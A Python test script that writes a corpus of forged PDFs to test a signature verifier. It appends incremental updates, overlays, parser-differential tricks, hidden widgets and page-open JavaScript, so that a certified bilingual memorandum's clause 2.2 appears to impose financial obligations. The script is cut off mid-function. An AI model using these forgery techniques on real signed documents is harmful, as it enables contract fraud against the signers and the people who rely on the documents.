#!/usr/bin/env python3
"""Writes the attack corpus: tests/attacks/pdf/NN-short-name.pdf.

Every file starts from tests/golden/signed-two-parties.pdf (certified by the ministry, then
signed by the fund) or from its certified-only revision (the file cut at the end of the first
signature's byte range), and appends incremental updates written byte by byte. No key is used:
an attacker has none. Deterministic: the same golden file gives the same bytes.

The clause attacked is 2.2, "Меморандум не возлагает на Стороны финансовых обязательств" (the
memorandum puts no financial obligation on the parties) and its Kazakh twin "... міндеттемелер
жүктемейді": the rewrites drop the negation, so poppler shows "Меморандум возлагает на Стороны"
("puts financial obligations on the parties") and "жүктейді".

Run: .venv/bin/python tests/attacks/make.py [OUT_DIR]   (the attacker-signed files need
cryptography and asn1crypto, which pyHanko brings into .venv; see attacker.py)
"""

import pathlib
import re
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))

from pdflib import (  # noqa: E402
    Update,
    byte_ranges,
    last_startxref,
    obj_body,
    object_stream,
    split_stream,
    stream,
    stream_data,
)

HERE = pathlib.Path(__file__).resolve().parent
GOLDEN = (HERE / "../golden/signed-two-parties.pdf").resolve().read_bytes()
OUT = HERE / "pdf"

FIRST = byte_ranges(GOLDEN)[0]
CERTIFIED = GOLDEN[: FIRST[2] + FIRST[3]]  # the ministry's certified revision, nothing after

# Objects of the golden file (see tests/attacks/INDEX.md for the map).
PAGES, FONT_BODY, CONTENT, FILESPEC_DATA, METADATA = 1, 9, 18, 19, 22
PAGE, CATALOG, MINISTRY_SIG, MINISTRY_WIDGET, FUND_WIDGET = 12, 23, 24, 31, 32
FUND_SIG, FUND_AP = 33, 39
ORIGINAL_CONTENT_OFFSET = GOLDEN.index(b"\n18 0 obj") + 1
FULL_PAGE = b"[0 0 595.28 841.89]"

RU_OLD, RU_NEW = "2.2. Меморандум не возлагает на Стороны фи", "2.2. Меморандум возлагает на Стороны фи"
KK_OLD, KK_NEW = "деттемелер жүктемейді.", "деттемелер жүктейді."
SHOWN = "Меморандум возлагает на Стороны"


# --- the page content and its text -------------------------------------------------------


def cmap_of(data, num):
    """code -> character and character -> code of a ToUnicode CMap (bfchar entries)."""
    text = stream_data(obj_body(data, num)).decode("latin1")
    pairs = re.findall(r"<([0-9A-Fa-f]{4})>\s*<([0-9A-Fa-f]{4})>", text)
    to_char = {int(a, 16): chr(int(b, 16)) for a, b in pairs}
    return to_char, {c: k for k, c in to_char.items()}


def literal_bytes(s):
    """The bytes of a PDF literal string's inside."""
    out, i = bytearray(), 0
    escapes = {b"n": 10, b"r": 13, b"t": 9, b"b": 8, b"f": 12}
    while i < len(s):
        if s[i] != 0x5C:
            out.append(s[i])
            i += 1
            continue
        nxt = s[i + 1 : i + 2]
        if nxt.isdigit():
            digits = re.match(rb"[0-7]{1,3}", s[i + 1 :]).group(0)
            out.append(int(digits, 8) & 255)
            i += 1 + len(digits)
        else:
            out.append(escapes.get(nxt, nxt[0]))
            i += 2
    return bytes(out)


TO_CHAR, TO_CODE = cmap_of(GOLDEN, 16)  # PTSerif-Regular (/f1, object 9)
ORIGINAL = stream_data(obj_body(GOLDEN, CONTENT))
TJ = re.compile(rb"/f1 ([\d.]+) Tf 1 0 0 -1 ([\d.]+) ([\d.]+) Tm\[(.*?)\]TJ", re.S)


def tj_text(array):
    codes = b"".join(literal_bytes(x) for x in re.findall(rb"\(((?:\\.|[^\\)])*)\)", array))
    return "".join(TO_CHAR.get(codes[i] << 8 | codes[i + 1], "?") for i in range(0, len(codes), 2))


def hex_of(text):
    return b"<" + "".join("%04X" % TO_CODE[c] for c in text).encode() + b">"


def find_line(text):
    """(match, x, y in page space) of the text line of /f1 that reads `text`."""
    for m in TJ.finditer(ORIGINAL):
        if tj_text(m.group(4)) == text:
            return m, float(m.group(2)), 841.89 - float(m.group(3))
    raise KeyError(text)


def rewritten_content():
    """The page content with clause 2.2 negated away in both languages."""
    out = ORIGINAL
    for old, new in ((RU_OLD, RU_NEW), (KK_OLD, KK_NEW)):
        m, _, _ = find_line(old)
        out = out.replace(m.group(0), m.group(0)[: m.start(4) - m.start(0)] + hex_of(new) + b"]TJ")
    assert out != ORIGINAL
    return out


def overlay_form():
    """A full-page form XObject: white boxes over the Russian and Kazakh lines of 2.2, the new
    lines drawn on them with the page's own font."""
    ops = b""
    for old, new, width in ((RU_OLD, RU_NEW, 210), (KK_OLD, KK_NEW, 150)):
        _, x, y = find_line(old)
        ops += b"q 1 1 1 rg %.2f %.2f %d 15 re f Q\n" % (x - 1, y - 4, width)
        ops += b"BT /F1 11.5 Tf 0 0 0 rg 1 0 0 1 %.2f %.2f Tm %s Tj ET\n" % (x, y, hex_of(new))
    extra = b"/Type/XObject/Subtype/Form/BBox%s/Resources<</Font<</F1 9 0 R>>>>" % FULL_PAGE
    return stream(ops, extra)


CONTENT_NEW = stream(rewritten_content())
OVERLAY = overlay_form()


def body(num, base=GOLDEN):
    return obj_body(base, num)


def with_key(dict_body, key, value):
    """`dict_body` (a `<<...>>` dictionary) with `/key value` appended (no duplicate check)."""
    assert dict_body.endswith(b">>")
    return dict_body[:-2] + b"/" + key + b" " + value + b">>"


def without_key(dict_body, pattern):
    out, n = re.subn(pattern, b"", dict_body)
    assert n == 1, pattern
    return out


def page_with(extra_annots=b"", contents=b"18 0 R", base=GOLDEN):
    page = body(PAGE, base)
    page = page.replace(b"/Contents 18 0 R", b"/Contents " + contents)
    if extra_annots:
        page = page.replace(b"32 0 R]>>", b"32 0 R " + extra_annots + b"]>>")
    return page


def catalog_with_fields(extra, base=GOLDEN):
    return body(CATALOG, base).replace(b"/Fields[31 0 R 32 0 R]", b"/Fields[31 0 R 32 0 R " + extra + b"]")


# --- the attacks ---------------------------------------------------------------------------

ATTACKS = []


def attack(name, cls, what, shows=SHOWN, base="signed"):
    """Registers an attack: `shows` is text poppler's pdftotext must print for it (None when
    the attack rewrites nothing that pdftotext reads, e.g. a signature's hidden bytes)."""

    def register(fn):
        ATTACKS.append(dict(name=name, cls=cls, what=what, shows=shows, base=base, make=fn))
        return fn

    return register


# Class 1: exemption by reference (/Info names an object, which is then never compared).


@attack("info-content-stream", 1, "rewrites the page content stream (18) and points the trailer's /Info at it")
def _():
    u = Update(GOLDEN)
    u.obj(CONTENT, CONTENT_NEW)
    return u.simple(info=CONTENT)


@attack("info-page", 1, "points /Info at the page (12) and gives it a new /Contents stream (40)")
def _():
    u = Update(GOLDEN)
    u.obj(PAGE, page_with(contents=b"40 0 R"))
    u.obj(40, CONTENT_NEW)
    return u.simple(info=PAGE)


@attack("info-pages-tree", 1, "points /Info at the page tree (1), whose /Kids now name a new page (40)")
def _():
    u = Update(GOLDEN)
    u.obj(PAGES, b"<</Type/Pages/Count 1/Kids[40 0 R]>>")
    u.obj(40, page_with(contents=b"41 0 R").replace(b"/Parent 1 0 R", b"/Parent 1 0 R"))
    u.obj(41, CONTENT_NEW)
    return u.simple(info=PAGES)


@attack("info-fund-appearance", 1, "points /Info at the fund's appearance (39) and rewrites its date line to 2020-01-01", shows="2020-01-01")
def _():
    data = stream_data(body(FUND_AP))
    to_char, to_code = cmap_of(GOLDEN, 37)
    old = "".join("%04X" % to_code[c] for c in "2026-12-02").encode()
    new = "".join("%04X" % to_code[c] for c in "2020-01-01").encode()
    assert old in data
    head, _ = split_stream(body(FUND_AP))
    head = re.sub(rb"/Length \d+", b"", head)[2:-2]
    u = Update(GOLDEN)
    u.obj(FUND_AP, stream(data.replace(old, new), head))
    return u.simple(info=FUND_AP)


@attack("info-ministry-widget-overlay", 1, "points /Info at the ministry's widget (31): its /Rect becomes the whole page and its /AP a new overlay (40) rewriting clause 2.2")
def _():
    u = Update(GOLDEN)
    w = body(MINISTRY_WIDGET)
    w = re.sub(rb"/Rect\[[^\]]*\]", b"/Rect" + FULL_PAGE, w).replace(b"/AP<</N 30 0 R>>", b"/AP<</N 40 0 R>>")
    u.obj(MINISTRY_WIDGET, w)
    u.obj(40, OVERLAY)
    return u.simple(info=MINISTRY_WIDGET)


@attack("info-fund-widget-aa-javascript", 1, "points /Info at the fund's widget (32) and adds a page-open JavaScript action (/AA /PO) and an overlay appearance", shows=SHOWN)
def _():
    u = Update(GOLDEN)
    w = body(FUND_WIDGET)
    w = re.sub(rb"/Rect\[[^\]]*\]", b"/Rect" + FULL_PAGE, w).replace(b"/AP<</N 39 0 R>>", b"/AP<</N 40 0 R>>")
    w = with_key(w, b"AA", b"<</PO<</S/JavaScript/JS(app.alert\\('signed: 0 tenge'\\))>>>>")
    u.obj(FUND_WIDGET, w)
    u.obj(40, OVERLAY)
    return u.simple(info=FUND_WIDGET)


def moved_m(sig, when):
    u = Update(GOLDEN)
    new = body(sig).replace(b"/M(D:20261202183253+00'00')", b"/M(D:%s+00'00')" % when)
    assert new != body(sig)
    u.obj(sig, new)
    return u.simple(info=sig)


@attack("info-fund-sig-moves-m", 1, "points /Info at the fund's signature dictionary (33) and moves its claimed signing time /M to 2028-06-01 (inside the certificate's validity)", shows=None)
def _():
    return moved_m(FUND_SIG, b"20280601120000")


@attack("info-fund-sig-moves-m-before-certificate", 1, "as info-fund-sig-moves-m, /M moved to 2020-01-01, before the certificate's validity", shows=None)
def _():
    return moved_m(FUND_SIG, b"20200101000000")


@attack("info-ministry-sig-moves-m", 1, "points /Info at the ministry's signature dictionary (24) and moves its /M to 2029-11-30, after the fund's signature it certified for", shows=None)
def _():
    return moved_m(MINISTRY_SIG, b"20291130000000")


@attack("info-removes-certification", 1, "removes the certification: /Info names the ministry's signature (24), rewritten without /Reference, and the catalog drops /Perms", shows=None)
def _():
    u = Update(GOLDEN)
    u.obj(CATALOG, without_key(body(CATALOG), rb"/Perms<</DocMDP 24 0 R>>"))
    u.obj(MINISTRY_SIG, without_key(body(MINISTRY_SIG), rb"/Reference\[.*\]"))
    return u.simple(info=MINISTRY_SIG)


@attack("info-embedded-memorandum", 1, "points /Info at the embedded memorandum.json stream (19) and replaces it with one whose clause 2.2 imposes obligations", shows=None)
def _():
    data = stream_data(body(FILESPEC_DATA))
    new = data.replace("не возлагает".encode(), "возлагает".encode())
    assert new != data
    head, _ = split_stream(body(FILESPEC_DATA))
    head = re.sub(rb"/Length \d+|/Filter/FlateDecode", b"", head)[2:-2]
    u = Update(GOLDEN)
    u.obj(FILESPEC_DATA, stream(new, head))
    return u.simple(info=FILESPEC_DATA)


@attack("info-content-on-certified-only", 1, "the certified-only revision; rewrites the content stream (18) named by /Info", base="certified")
def _():
    u = Update(CERTIFIED)
    u.obj(CONTENT, CONTENT_NEW)
    return u.simple(info=CONTENT)


# Class 2: direct dictionaries in /Annots and /Fields.


def direct_annot(subtype, extra=b""):
    return b"<</Type/Annot/Subtype/%s/Rect%s/F 4/P 12 0 R/AP<</N 40 0 R>>%s>>" % (subtype, FULL_PAGE, extra)


@attack("direct-freetext-annotation", 2, "adds a direct FreeText annotation to the page's /Annots whose appearance (40) covers and rewrites clause 2.2")
def _():
    u = Update(GOLDEN)
    u.obj(PAGE, page_with(direct_annot(b"FreeText", b"/DA(/Helv 0 Tf 0 g)/Contents()")))
    u.obj(40, OVERLAY)
    return u.simple()


@attack("direct-stamp-annotation", 2, "adds a direct Stamp annotation to /Annots with the overlay appearance (40)")
def _():
    u = Update(GOLDEN)
    u.obj(PAGE, page_with(direct_annot(b"Stamp")))
    u.obj(40, OVERLAY)
    return u.simple()


@attack("direct-text-widget", 2, "adds a direct text-field widget (/FT /Tx) to /Annots, drawing the overlay (40)")
def _():
    u = Update(GOLDEN)
    u.obj(PAGE, page_with(direct_annot(b"Widget", b"/FT/Tx/T(x)/V()")))
    u.obj(40, OVERLAY)
    return u.simple()


@attack("direct-signature-widget", 2, "adds a direct signature widget (/FT /Sig, no /V) to /Annots, drawing the overlay (40)")
def _():
    u = Update(GOLDEN)
    u.obj(PAGE, page_with(direct_annot(b"Widget", b"/FT/Sig/T(x)")))
    u.obj(40, OVERLAY)
    return u.simple()


@attack("direct-field-in-fields-and-annots", 2, "adds the same direct text field to the AcroForm /Fields and to the page's /Annots, drawing the overlay (40)")
def _():
    u = Update(GOLDEN)
    annot = direct_annot(b"Widget", b"/FT/Tx/T(clause)/V()")
    u.obj(PAGE, page_with(annot))
    u.obj(CATALOG, catalog_with_fields(annot))
    u.obj(40, OVERLAY)
    return u.simple()


@attack("direct-annotation-on-certified-only", 2, "the certified-only revision; a direct FreeText annotation in /Annots draws the overlay (40)", base="certified")
def _():
    u = Update(CERTIFIED)
    u.obj(PAGE, page_with(direct_annot(b"FreeText", b"/DA(/Helv 0 Tf 0 g)/Contents()"), base=CERTIFIED))
    u.obj(40, OVERLAY)
    return u.simple()


@attack("direct-field-only-in-fields", 2, "adds a direct text field with a page-size overlay appearance (40) to the AcroForm /Fields only (not to /Annots)", shows=None)
def _():
    u = Update(GOLDEN)
    u.obj(CATALOG, catalog_with_fields(direct_annot(b"Widget", b"/FT/Tx/T(clause)/V()")))
    u.obj(40, OVERLAY)
    return u.simple()


# Class 3: parser differentials (duplicate entries, decoy headers, xref chains, object streams).


@attack("xref-lists-content-twice", 3, "one xref section lists 18 twice: first at the rewritten stream, then at the original offset (poppler and qpdf keep the first, lopdf the last)")
def _():
    u = Update(GOLDEN)
    at = u.obj(CONTENT, CONTENT_NEW, listed=False)
    x = u.xref([(0, 0, 65535, b"f"), (CONTENT, at, 0, b"n"), (CONTENT, ORIGINAL_CONTENT_OFFSET, 0, b"n")])
    u.trailer()
    return u.finish(x)


@attack("xref-lists-page-twice", 3, "one xref section lists the page (12) twice: first a page with new contents (40), then the page as signed")
def _():
    u = Update(GOLDEN)
    fake = u.obj(PAGE, page_with(contents=b"40 0 R"), listed=False)
    real = u.obj(PAGE, body(PAGE), listed=False)
    u.obj(40, CONTENT_NEW)
    rows = [(0, 0, 65535, b"f"), (PAGE, fake, 0, b"n"), (PAGE, real, 0, b"n"), (40, u.offsets[40][0], 0, b"n")]
    x = u.xref(rows)
    u.trailer()
    return u.finish(x)


def decoy(u, num, fake_body, real_body):
    """xref: num -> `fake_body` under its own header; 40 -> a decoy `num 0 obj` holding
    `real_body`; 41 -> an object stream that supplies object 40 so no entry is unreadable."""
    u.obj(num, fake_body)
    u.obj(40, real_body, header=b"%d 0 obj" % num)
    u.obj(41, object_stream([(40, 0)], [b"<<>>"]))


@attack("decoy-header-content", 3, "xref 18 -> the rewritten stream; xref 40 -> a decoy header '18 0 obj' with the original stream (lopdf names objects by header, later entries win)")
def _():
    u = Update(GOLDEN)
    decoy(u, CONTENT, CONTENT_NEW, body(CONTENT))
    return u.simple()


@attack("decoy-header-page", 3, "xref 12 -> a page with new contents (42); xref 40 -> a decoy '12 0 obj' with the page as signed")
def _():
    u = Update(GOLDEN)
    decoy(u, PAGE, page_with(contents=b"42 0 R"), body(PAGE))
    u.obj(42, CONTENT_NEW)
    return u.simple()


@attack("prev-skips-fund-section", 3, "a new section whose /Prev skips the fund's update: its signature bytes stay in the file, unreachable", shows=None)
def _():
    u = Update(GOLDEN)
    u.obj(CATALOG, body(CATALOG, CERTIFIED))
    x = u.xref()
    u.trailer(prev=int(re.findall(rb"startxref\s+(\d+)", CERTIFIED)[-1]))
    return u.finish(x)


@attack("prev-skips-fund-section-rewrites", 3, "/Prev skips the fund's update and the same section rewrites the content stream (18) named by /Info")
def _():
    u = Update(GOLDEN)
    u.obj(CONTENT, CONTENT_NEW)
    x = u.xref()
    u.trailer(prev=int(re.findall(rb"startxref\s+(\d+)", CERTIFIED)[-1]), info=CONTENT)
    return u.finish(x)


@attack("prev-skips-own-rewrite", 3, "update 1 rewrites 18 and lists it; update 2 adds nothing and its /Prev skips update 1 (to the fund's section): readers that rebuild the xref find the rewrite", shows=None)
def _():
    u1 = Update(GOLDEN)
    u1.obj(CONTENT, CONTENT_NEW)
    first = u1.simple()
    u2 = Update(first)
    x = u2.xref([(0, 0, 65535, b"f")])
    u2.trailer(prev=last_startxref(GOLDEN))
    return u2.finish(x)


def unlisted_rewrite(delta):
    u = Update(GOLDEN)
    u.obj(CONTENT, CONTENT_NEW, listed=False)
    x = u.xref([(0, 0, 65535, b"f")])
    u.trailer()
    return u.finish(x, delta=delta)


@attack("startxref-plus-2", 3, "appends the rewritten 18 without listing it, and a startxref 2 bytes past the xref keyword (a reader that rebuilds the xref takes the last '18 0 obj')")
def _():
    return unlisted_rewrite(2)


@attack("startxref-minus-2", 3, "as startxref-plus-2 with startxref 2 bytes before the xref keyword")
def _():
    return unlisted_rewrite(-2)


@attack("startxref-listed-plus-5", 3, "the rewritten 18 listed in a correct table, but startxref 5 bytes off")
def _():
    u = Update(GOLDEN)
    u.obj(CONTENT, CONTENT_NEW)
    x = u.xref()
    u.trailer(info=None)
    return u.finish(x, delta=5)


@attack("generation-mismatch", 3, "xref 18 (gen 0) -> '18 1 obj' with the rewritten stream; object 41, an object stream, supplies '18 0' with the page's old stream for lopdf", shows=None)
def _():
    u = Update(GOLDEN)
    at = u.obj(CONTENT, CONTENT_NEW, gen=1, listed=False)
    u.offsets[CONTENT] = (at, 0)
    u.obj(41, object_stream([(CONTENT, 0)], [b"<<>>"]))
    return u.simple()


@attack("generation-bumped", 3, "xref 18 gen 1 -> '18 1 obj' rewritten; the page still says 18 0 R", shows=None)
def _():
    u = Update(GOLDEN)
    u.obj(CONTENT, CONTENT_NEW, gen=1)
    return u.simple()


@attack("size-too-small", 3, "rewrites 18 named by /Info in a section whose trailer says /Size 10")
def _():
    u = Update(GOLDEN)
    u.obj(CONTENT, CONTENT_NEW)
    return u.simple(info=CONTENT, size=10)


@attack("size-too-small-new-contents", 3, "the page (12) takes new contents 45 while /Size is 13: object 45 is past the end of the table")
def _():
    u = Update(GOLDEN)
    u.obj(PAGE, page_with(contents=b"45 0 R"))
    u.obj(45, CONTENT_NEW)
    return u.simple(size=13)


def hybrid(table_rows_for_18):
    u = Update(GOLDEN)
    mod = u.obj(CONTENT, CONTENT_NEW, listed=False)
    xs = u.xref_stream(44, [(CONTENT, 1, mod, 0)], size=45)
    rows = [(0, 0, 65535, b"f")] + table_rows_for_18
    x = u.xref(rows)
    u.trailer(size=45, extra=b"/XRefStm %d" % xs)
    return u.finish(x)


@attack("xrefstm-hybrid-only", 3, "a hybrid section: the table lists nothing, its /XRefStm (44) lists the rewritten 18")
def _():
    return hybrid([])


@attack("xrefstm-hybrid-free-in-table", 3, "a hybrid section: the table marks 18 free, its /XRefStm lists the rewritten 18")
def _():
    return hybrid([(CONTENT, 0, 1, b"f")])


def objstm_page(n, pairs_extra):
    """A cross-reference stream: 12 compressed in object stream 41 at index 0 (a page with new
    contents 40); the object stream's pairs also name 12 at the page as signed."""
    u = Update(GOLDEN)
    u.obj(40, CONTENT_NEW)
    fake, real = page_with(contents=b"40 0 R"), body(PAGE)
    at = u.obj(41, object_stream([(PAGE, 0)] + pairs_extra, [fake, real], n=n))
    rows = [(0, 0, 0, 65535), (40, 1, u.offsets[40][0], 0), (41, 1, at, 0), (PAGE, 2, 41, 0)]
    x = u.xref_stream(42, rows + [(42, 1, u.pos() + 1, 0)])
    return u.finish(x)


@attack("objstm-extra-pair", 3, "object stream with /N 1 but two pairs: 12 at index 0 (new contents 40) and 12 again at the page as signed (lopdf reads pairs past /N, the last one wins)")
def _():
    return objstm_page(1, [(PAGE, 1)])


@attack("objstm-duplicate-pair", 3, "object stream with /N 2 naming 12 twice (index 0 rewritten, index 1 as signed); the xref stream says index 0")
def _():
    return objstm_page(2, [(PAGE, 1)])


@attack("duplicate-key-page-contents", 3, "the page (12) rewritten with /Contents twice (18 then 40) among 32 padding keys: readers that sort long dictionaries may pick either")
def _():
    u = Update(GOLDEN)
    pad = b"".join(b"/K%02d 0" % i for i in range(32))
    page = body(PAGE).replace(b"/Contents 18 0 R", b"/Contents 18 0 R" + pad + b"/Contents 40 0 R")
    u.obj(PAGE, page)
    u.obj(40, CONTENT_NEW)
    return u.simple()


@attack("duplicate-key-widget-ap", 3, "the fund's widget (32) rewritten with /AP and /Rect twice: its own appearance first, the page-size overlay (40) last")
def _():
    u = Update(GOLDEN)
    w = body(FUND_WIDGET).replace(b"/AP<</N 39 0 R>>", b"/AP<</N 39 0 R>>/Rect%s/AP<</N 40 0 R>>" % FULL_PAGE)
    u.obj(FUND_WIDGET, w)
    u.obj(40, OVERLAY)
    return u.simple()


# Class 4: "invisible" signature fields that draw.


def sig_widget(extra, rect=FULL_PAGE, flags=b"4"):
    return b"<</Type/Annot/Subtype/Widget/FT/Sig/T(kelisim:x:y)/F %s/Rect%s/P 12 0 R/AP<</N 40 0 R>>%s>>" % (flags, rect, extra)


def add_sig_widget(widget, extra_objs=(), base=GOLDEN):
    u = Update(base)
    u.obj(PAGE, page_with(b"45 0 R", base=base))
    u.obj(CATALOG, catalog_with_fields(b"45 0 R", base=base))
    u.obj(40, OVERLAY)
    for num, b in extra_objs:
        u.obj(num, b)
    u.obj(45, widget)
    return u.simple()


@attack("sig-widget-noview-print", 4, "a new signature widget flagged NoView|Print (36): judged invisible, yet printed; its appearance rewrites clause 2.2", shows=SHOWN)
def _():
    return add_sig_widget(sig_widget(b"", flags=b"36"))


@attack("sig-widget-rect-indirect-numbers", 4, "a new signature widget whose /Rect holds four indirect numbers (46-49): judged zero-size, drawn full-page")
def _():
    nums = [(46, b"0"), (47, b"0"), (48, b"595.28"), (49, b"841.89")]
    return add_sig_widget(sig_widget(b"", rect=b"[46 0 R 47 0 R 48 0 R 49 0 R]"), nums)


@attack("sig-widget-rect-indirect-array", 4, "a new signature widget whose /Rect is an indirect array (46) covering the page")
def _():
    return add_sig_widget(sig_widget(b"", rect=b" 46 0 R"), [(46, FULL_PAGE)])


@attack("sig-widget-flags-overflow", 4, "a new signature widget with /F 4294967334 (2^32+38): Hidden and NoView bits for a 64-bit reader, not an integer for poppler (flags 0)")
def _():
    return add_sig_widget(sig_widget(b"", flags=b"4294967334"))


@attack("sig-widget-subtype-freetext", 4, "a /FT /Sig field whose /Subtype is FreeText, with indirect /Rect numbers, its appearance the overlay")
def _():
    nums = [(46, b"0"), (47, b"0"), (48, b"595.28"), (49, b"841.89")]
    w = sig_widget(b"/DA(/Helv 0 Tf 0 g)/Contents()", rect=b"[46 0 R 47 0 R 48 0 R 49 0 R]").replace(b"/Subtype/Widget", b"/Subtype/FreeText")
    return add_sig_widget(w, nums)


@attack("sig-widget-subtype-stamp-noview-print", 4, "a /FT /Sig Stamp annotation flagged NoView|Print drawing the overlay")
def _():
    return add_sig_widget(sig_widget(b"", flags=b"36").replace(b"/Subtype/Widget", b"/Subtype/Stamp"))


@attack("sig-widget-noview-print-aa-javascript", 4, "an 'invisible' (NoView|Print) signature widget added with a page-open JavaScript action (/AA /PO)")
def _():
    js = b"/AA<</PO<</S/JavaScript/JS(app.alert\\('0 tenge'\\))>>>>"
    return add_sig_widget(sig_widget(js, flags=b"36"))


@attack("sig-widget-noview-print-on-certified-only", 4, "the certified-only revision; a NoView|Print signature widget whose appearance rewrites clause 2.2", base="certified")
def _():
    return add_sig_widget(sig_widget(b"", flags=b"36"), base=CERTIFIED)


# Class 5: visible signature widgets anywhere, several per signature.


@attack("second-widget-for-fund-signature", 5, "a second widget (45, /Parent 32, /V 33) for the fund's signature, visible full-page with the overlay appearance")
def _():
    w = b"<</Type/Annot/Subtype/Widget/Parent 32 0 R/V 33 0 R/F 4/Rect%s/P 12 0 R/AP<</N 40 0 R>>>>" % FULL_PAGE
    u = Update(GOLDEN)
    u.obj(PAGE, page_with(b"45 0 R"))
    u.obj(40, OVERLAY)
    u.obj(45, w)
    return u.simple()


@attack("second-widget-for-fund-signature-noview-print", 5, "as second-widget-for-fund-signature, flagged NoView|Print so it is judged invisible")
def _():
    w = b"<</Type/Annot/Subtype/Widget/Parent 32 0 R/V 33 0 R/F 36/Rect%s/P 12 0 R/AP<</N 40 0 R>>>>" % FULL_PAGE
    u = Update(GOLDEN)
    u.obj(PAGE, page_with(b"45 0 R"))
    u.obj(40, OVERLAY)
    u.obj(45, w)
    return u.simple()


@attack("visible-unsigned-widget-outside-places", 5, "a visible unsigned signature widget outside the reserved places, on the certified-only revision", base="certified")
def _():
    return add_sig_widget(sig_widget(b""), base=CERTIFIED)


@attack("fund-field-gets-appearance-unsigned", 5, "the certified-only revision; the fund's empty field (32) gets a page-size overlay appearance and no signature", base="certified")
def _():
    u = Update(CERTIFIED)
    w = body(FUND_WIDGET, CERTIFIED)
    w = re.sub(rb"/Rect\[[^\]]*\]", b"/Rect" + FULL_PAGE, w)
    u.obj(FUND_WIDGET, with_key(w, b"AP", b"<</N 40 0 R>>"))
    u.obj(40, OVERLAY)
    return u.simple()


@attack("fund-widget-moved-full-page", 5, "the fund's signed widget (32) moved to cover the whole page, with the overlay as appearance")
def _():
    u = Update(GOLDEN)
    w = re.sub(rb"/Rect\[[^\]]*\]", b"/Rect" + FULL_PAGE, body(FUND_WIDGET)).replace(b"/AP<</N 39 0 R>>", b"/AP<</N 40 0 R>>")
    u.obj(FUND_WIDGET, w)
    u.obj(40, OVERLAY)
    return u.simple()


# Class 6: role allowances (/DSS, /Extensions, /Perms, /Metadata; objects a signer added).


@attack("metadata-xmp-rewritten", 6, "replaces the XMP metadata (22) with one whose title and producer say something else", shows=None)
def _():
    data = stream_data(body(METADATA))
    new = data.replace("МЕМОРАНДУМ</rdf:li>".encode(), "МЕМОРАНДУМ (жаңа редакция)</rdf:li>".encode())
    new = new.replace(b"Kelisim kelisim-pdf/1", b"Kelisim kelisim-pdf/0")
    assert new != data
    u = Update(GOLDEN)
    u.obj(METADATA, stream(new, b"/Type/Metadata/Subtype/XML"))
    return u.simple()


@attack("perms-gains-ur3", 6, "the catalog's /Perms gains a /UR3 usage-rights signature dictionary (40) that nobody signed", shows=None)
def _():
    u = Update(GOLDEN)
    u.obj(CATALOG, body(CATALOG).replace(b"/Perms<</DocMDP 24 0 R>>", b"/Perms<</DocMDP 24 0 R/UR3 40 0 R>>"))
    u.obj(40, b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/Reference[<</Type/SigRef/TransformMethod/UR3/TransformParams<</Type/TransformParams/V/2.2/Annots[/Create/Delete/Modify]/Form[/Add/Delete/FillIn]>>>>]>>")
    return u.simple()


@attack("extensions-point-at-content", 6, "the catalog's /Extensions becomes a reference to the content stream (18), which is rewritten")
def _():
    u = Update(GOLDEN)
    cat = re.sub(rb"/Extensions<<.*?>>\]>>", b"/Extensions 18 0 R", body(CATALOG))
    u.obj(CATALOG, cat)
    u.obj(CONTENT, CONTENT_NEW)
    return u.simple()


@attack("dss-reaches-content", 6, "the catalog gains a /DSS (40) whose /Certs name the content stream (18), which is rewritten")
def _():
    u = Update(GOLDEN)
    u.obj(CATALOG, with_key(body(CATALOG), b"DSS", b"40 0 R"))
    u.obj(40, b"<</Type/DSS/Certs[18 0 R]>>")
    u.obj(CONTENT, CONTENT_NEW)
    return u.simple()


@attack("metadata-points-at-content", 6, "the catalog's /Metadata now names the content stream (18), rewritten as a stream with /Type /Metadata")
def _():
    u = Update(GOLDEN)
    u.obj(CATALOG, body(CATALOG).replace(b"/Metadata 22 0 R", b"/Metadata 18 0 R"))
    u.obj(CONTENT, stream(rewritten_content(), b"/Type/Metadata/Subtype/XML"))
    return u.simple()


@attack("fund-planted-appearance-changed", 6, "the fund's own appearance stream (39), added by a signer, rewritten after the last signature to read 2020-01-01", shows="2020-01-01")
def _():
    data = stream_data(body(FUND_AP))
    _, to_code = cmap_of(GOLDEN, 37)
    old = "".join("%04X" % to_code[c] for c in "2026-12-02").encode()
    new = "".join("%04X" % to_code[c] for c in "2020-01-01").encode()
    head, _ = split_stream(body(FUND_AP))
    head = re.sub(rb"/Length \d+", b"", head)[2:-2]
    u = Update(GOLDEN)
    u.obj(FUND_AP, stream(data.replace(old, new), head))
    return u.simple()


# Class 8: verdicts (%%EOF tricks, bytes hidden in /Contents).


def hide_in_contents(data, which):
    """Writes a hex payload into the zero padding after the CMS of signature `which`."""
    br = byte_ranges(data)[which]
    gap = data[br[1] : br[2]]
    payload = b"HIDDEN: the real clause 2.2 imposes obligations. " * 8
    hexed = payload.hex().upper().encode()
    stripped = gap[1:-1].rstrip(b"0 ")
    start = br[1] + 1 + len(stripped) + 16
    if len(stripped) % 2:
        start += 1
    assert start + len(hexed) < br[2] - 1
    assert set(data[start : start + len(hexed)]) <= {ord("0")}
    return data[:start] + hexed + data[start + len(hexed) :]


@attack("contents-hidden-bytes-fund", 8, "hex bytes written into the zero padding after the fund's CMS in its /Contents (outside the signed bytes)", shows=None)
def _():
    return hide_in_contents(GOLDEN, 1)


@attack("contents-hidden-bytes-ministry", 8, "hex bytes written into the zero padding after the ministry's CMS", shows=None)
def _():
    return hide_in_contents(GOLDEN, 0)


@attack("update-without-eof", 8, "a complete update rewriting 18 but ending at 'startxref N' without %%EOF (readers that search startxref from the end read it)")
def _():
    u = Update(GOLDEN)
    u.obj(CONTENT, CONTENT_NEW)
    x = u.xref()
    u.trailer()
    return u.finish(x, eof=b"")


@attack("eof-then-garbage-update", 8, "a rewrite of 18 (named by /Info) after which the file ends with '%%EOF' and a comment line")
def _():
    u = Update(GOLDEN)
    u.obj(CONTENT, CONTENT_NEW)
    return u.simple(info=CONTENT) + b"\n% trailing comment\n"


@attack("eof-inside-stream-update", 8, "a rewrite of 18 whose stream data carries '%%EOF' lines and a fake trailer; /Info names it", shows=SHOWN)
def _():
    u = Update(GOLDEN)
    data = rewritten_content() + b"\n%%EOF\n% startxref 136583\n%%EOF\n"
    u.obj(CONTENT, stream(data))
    return u.simple(info=CONTENT)


# Later additions (kept at the end so that the numbers above stay stable).


@attack("link-annotation-javascript", 2, "adds an indirect, borderless Link annotation (40) over the whole page whose action is JavaScript", shows=None)
def _():
    u = Update(GOLDEN)
    u.obj(PAGE, page_with(b"40 0 R"))
